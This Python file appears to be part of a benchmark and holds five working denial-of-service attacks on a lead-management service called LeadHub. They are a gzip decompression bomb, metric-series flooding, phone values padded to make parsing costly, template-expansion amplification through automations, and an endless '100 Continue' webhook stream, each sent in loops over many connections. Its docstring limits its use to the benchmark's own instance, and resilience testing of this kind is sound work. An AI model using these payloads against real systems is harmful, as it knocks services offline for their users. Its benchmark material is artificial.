"""Attacks on a LeadHub by one workspace or by a stranger. They only run against a LeadHub of the benchmark's own."""

import asyncio
import json
import sys
import zlib
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

import aiohttp

CONNECTION_ERRORS = (aiohttp.ClientError, OSError, TimeoutError)
COSTLY_PHONE = "0001" + " " * 80 + "ext" + " " * 160 + "x1"
STEP_COUNT = 100
STREAM_PIECE = b"HTTP/1.1 100 Continue\r\n\r\n" * 4096


@dataclass(frozen=True)
class AttackTarget:
    """The service under attack. `key` belongs to the attacking workspace; `port` is free for a server of the attack."""

    base_url: str
    metrics_url: str
    tenant: str
    key: str
    port: int

    @property
    def inbound_url(self) -> str:
        return f"{self.base_url}/api/inbound/leads?tenant={self.tenant}"

    @property
    def auth_headers(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.key}"}


async def post_compressed(target: AttackTarget) -> None:
    """Post 3 MB of gzip that inflate to 700 MB, as strangers, over 40 connections."""
    packer, body = zlib.compressobj(1, wbits=31), b""
    while len(body) < 3 << 20:
        body += packer.compress(bytes(16 << 20))
    await repeat_in_parallel(
        40, lambda session: session.post(target.inbound_url, data=body, headers={"Content-Encoding": "gzip"})
    )


async def read_metrics(target: AttackTarget) -> None:
    """Create many metric series, then read the metrics without pause over 16 connections, as strangers."""
    async with aiohttp.ClientSession() as session:
        for number in range(2000):
            with suppress(*CONNECTION_ERRORS):
                await (await session.request(f"M{number}", f"{target.base_url}/api/v1/leads")).release()
    await repeat_in_parallel(16, lambda session: session.get(target.metrics_url))


async def post_phones(target: AttackTarget) -> None:
    """As one workspace, post a batch of 1,000 leads each second; their phones are all blanks and extensions."""
    batch = [{"email": f"p{number}@attack.example.com", "phone": COSTLY_PHONE} for number in range(1000)]
    url = target.inbound_url.replace("?", "/batch?")
    headers = {**target.auth_headers, "Prefer": "respond-async"}
    await repeat_in_parallel(1, lambda session: session.post(url, json=batch, headers=headers), pause=1.0)


async def run_templates(target: AttackTarget) -> None:
    """Let one workspace's automations fill 100 templates with a lead of 250 KB."""
    step = {"action": {"type": "create_task", "title": "{{ custom_fields|title }}"}}
    automation = {"name": "Attack", "trigger": {"type": "lead_created"}, "steps": [step] * STEP_COUNT}
    fields = {f"field_{number}": "word " * 480 for number in range(100)}
    async with aiohttp.ClientSession(headers=target.auth_headers) as session:
        for _ in range(5):
            answer = await session.post(f"{target.base_url}/api/v1/automations", json=automation)
            if answer.status != 201:
                print("refused:", answer.status, await answer.text(), file=sys.stderr)
    headers = {**target.auth_headers, "Prefer": "respond-async"}
    emails = (f"t{number}@attack.example.com" for number in range(10**9))

    def post(session: aiohttp.ClientSession) -> Awaitable[aiohttp.ClientResponse]:
        lead = {"email": next(emails), "custom_fields": fields}
        return session.post(target.inbound_url, json=lead, headers=headers)

    await repeat_in_parallel(2, post, pause=0.2)


async def stream_informational(target: AttackTarget) -> None:
    """Let one workspace's webhook receiver answer with `100 Continue` endlessly."""

    async def stream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(*CONNECTION_ERRORS):
            await reader.readuntil(b"\r\n\r\n")
            while True:
                writer.write(STREAM_PIECE)
                await writer.drain()

    await asyncio.start_server(stream, "127.0.0.1", target.port)
    async with aiohttp.ClientSession(headers=target.auth_headers) as session:
        subscription = {"url": f"http://127.0.0.1:{target.port}/", "events": ["lead.created"]}
        await session.post(f"{target.base_url}/api/v1/webhooks", json=subscription)
        for number in range(10**9):
            with suppress(*CONNECTION_ERRORS):
                await session.post(target.inbound_url, json={"email": f"c{number}@attack.example.com"})
            await asyncio.sleep(0.1)


ATTACKS_BY_NAME: dict[str, Callable[[AttackTarget], Coroutine[Any, Any, None]]] = {
    "compressed bodies": post_compressed,
    "metrics": read_metrics,
    "phones": post_phones,
    "templates": run_templates,
    "informational answers": stream_informational,
}


async def repeat_in_parallel(
    connections: int, request: Callable[[aiohttp.ClientSession], Awaitable[aiohttp.ClientResponse]], pause: float = 0
) -> None:
    """Send requests over that many connections until this process ends."""

    async def repeat() -> None:
        while True:
            with suppress(*CONNECTION_ERRORS):
                answer = await request(session)
                await answer.read()
            await asyncio.sleep(pause)

    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=0)) as session:
        await asyncio.gather(*(repeat() for _ in range(connections)))


if __name__ == "__main__":
    asyncio.run(ATTACKS_BY_NAME[sys.argv[1]](AttackTarget(**json.loads(sys.argv[2]))))
